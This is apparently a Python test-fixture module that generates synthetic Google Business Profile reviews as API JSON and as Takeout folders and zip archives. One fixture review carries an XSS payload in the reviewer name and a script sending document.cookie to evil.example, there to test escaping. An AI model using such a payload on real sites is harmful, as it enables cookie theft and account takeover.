"""Google Business Profile's files: a Takeout (folder and zip) and the API's ``reviews.list`` JSON.

Takeout nests the reviews as
``Takeout/Google Business Profile/account-<id>/location-<id>/reviews.json``
(more pages as ``reviews-001.json``...), next to other JSON files that are
not reviews, with ``archive_browser.html`` at the top. The review objects
are the API's: ``name`` as a resource path, ``starRating`` as a word,
RFC 3339 times with fractions and ``Z``, ``reviewReply`` when the shop
answered. Translated comments carry Google's markers.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any

ACCOUNT = "112233445566778899001"
LOCATION = "9876543210123456789"


def review(
    review_id: str,
    stars: str,
    created: str,
    name: str = "Jan de Vries",
    comment: str | None = None,
    updated: str | None = None,
    reply: tuple[str, str] | None = None,
    anonymous: bool = False,
    with_review_id: bool = True,
    location: str = LOCATION,
) -> dict[str, Any]:
    """One review as the API (``with_review_id``) or Takeout (only ``name``) gives it."""
    item: dict[str, Any] = {"name": f"accounts/{ACCOUNT}/locations/{location}/reviews/{review_id}"}
    if with_review_id:
        item["reviewId"] = review_id
    if anonymous:
        item["reviewer"] = {"displayName": "A Google User", "isAnonymous": True}
    else:
        item["reviewer"] = {
            "profilePhotoUrl": "https://lh3.googleusercontent.com/a-/ALV-UjW2x9Yk3m=s120-c-rp-mo-br100",
            "displayName": name,
        }
    item["starRating"] = stars
    if comment is not None:
        item["comment"] = comment
    item["createTime"] = created
    item["updateTime"] = updated or created
    if reply:
        item["reviewReply"] = {"comment": reply[0], "updateTime": reply[1]}
    return item


#: The reviews of the fixtures: answered, translated both ways, rating-only, anonymous, hostile.
REVIEWS: list[dict[str, Any]] = [
    review(
        "AbFvOqnQ1x2y3z4w5v6u7t8s9r0q",
        "FIVE",
        "2024-03-01T14:22:10.123456Z",
        comment="Heel vriendelijk geholpen, fiets binnen een uur gerepareerd.",
        reply=("Dank je wel, Jan!", "2024-03-02T09:15:00.000Z"),
    ),
    review(
        "AbFvOqnR2y3z4w5v6u7t8s9r0q1p",
        "TWO",
        "2024-03-10T08:00:00Z",
        name="Lukas Becker",
        comment="(Translated by Google) Long wait, rude staff.\n\n(Original)\n"
        "Lange Wartezeit, unfreundliches Personal.",
        updated="2024-03-11T10:30:00.5Z",
    ),
    review(
        "AbFvOqnS3z4w5v6u7t8s9r0q1p2o",
        "FOUR",
        "2024-04-05T17:45:30Z",
        name="Mari Tamm",
        comment="Hea teenindus.\n\n(Translated by Google)\nGood service.",
        reply=("(Translated by Google) Thank you!\n\n(Original)\nAitäh!", "2024-04-06T08:00:00Z"),
    ),
    review("AbFvOqnT4w5v6u7t8s9r0q1p2o3n", "THREE", "2024-04-20T12:00:00Z", anonymous=True),
    review(
        "AbFvOqnU5v6u7t8s9r0q1p2o3n4m",
        "ONE",
        "2024-05-01T06:30:00Z",
        name="<img src=x onerror=alert(1)>",
        comment="<script>document.location='https://evil.example/?c='+document.cookie</script>",
    ),
]


def reviews_page(reviews: list[dict[str, Any]], token: str | None = None) -> dict[str, Any]:
    """A ``reviews.list`` answer."""
    rated = [STARS[r["starRating"]] for r in reviews if r.get("starRating") in STARS]
    page: dict[str, Any] = {
        "reviews": reviews,
        "averageRating": round(sum(rated) / len(rated), 1) if rated else 0,
        "totalReviewCount": len(reviews),
    }
    if token:
        page["nextPageToken"] = token
    return page


STARS = {"ONE": 1, "TWO": 2, "THREE": 3, "FOUR": 4, "FIVE": 5}


def api_json(
    folder: Path, reviews: list[dict[str, Any]] | None = None, name: str = "reviews-api.json"
) -> Path:
    """The API's answer saved as a file (Google's APIs indent by two spaces)."""
    path = folder / name
    path.write_text(
        json.dumps(reviews_page(REVIEWS if reviews is None else reviews), indent=2, ensure_ascii=False),
        encoding="utf-8",
    )
    return path


def takeout_files(
    pages: list[list[dict[str, Any]]] | None = None, location: str = LOCATION
) -> dict[str, bytes]:
    """The files of a Takeout, by their path inside it: one location, its reviews in ``pages``.

    Takeout names a review only by its resource ``name``; the API adds ``reviewId``.
    """
    pages = [REVIEWS[:3], REVIEWS[3:]] if pages is None else pages
    base = f"Takeout/Google Business Profile/account-{ACCOUNT}"
    files: dict[str, bytes] = {
        "Takeout/archive_browser.html": b"<!DOCTYPE html><html><head><title>Archive</title></head>"
        b"<body><h1>Google Business Profile</h1></body></html>",
        f"{base}/additionalData.json": json.dumps(
            {"accountName": "Fietsenwinkel De Ketting", "type": "LOCATION_GROUP"}, indent=2
        ).encode(),
        f"{base}/location-{location}/additionalData.json": json.dumps(
            {"title": "Fietsenwinkel De Ketting", "storeCode": "UTR-01"}, indent=2
        ).encode(),
        f"{base}/location-{location}/localPosts.json": json.dumps({"localPosts": []}, indent=2).encode(),
    }
    for number, page in enumerate(pages):
        name = "reviews.json" if number == 0 else f"reviews-{number:03d}.json"
        body = {"reviews": [{k: v for k, v in item.items() if k != "reviewId"} for item in page]}
        files[f"{base}/location-{location}/{name}"] = json.dumps(body, indent=2, ensure_ascii=False).encode()
    return files


def takeout_folder(folder: Path, files: dict[str, bytes] | None = None) -> Path:
    """A Takeout unpacked by the owner: returns the folder holding ``Takeout/``."""
    for name, data in (takeout_files() if files is None else files).items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return folder


def takeout_zip(
    folder: Path, files: dict[str, bytes] | None = None, name: str = "takeout-20240601T120000Z-001.zip"
) -> Path:
    """A Takeout as downloaded: a zip with the folders as entries, as Google writes it."""
    path = folder / name
    files = takeout_files() if files is None else files
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        folders = sorted(
            {"/".join(n.split("/")[:i]) + "/" for n in files for i in range(1, n.count("/") + 1)}
        )
        for entry in folders:
            archive.writestr(entry, b"")
        for entry, data in files.items():
            archive.writestr(entry, data)
    return path
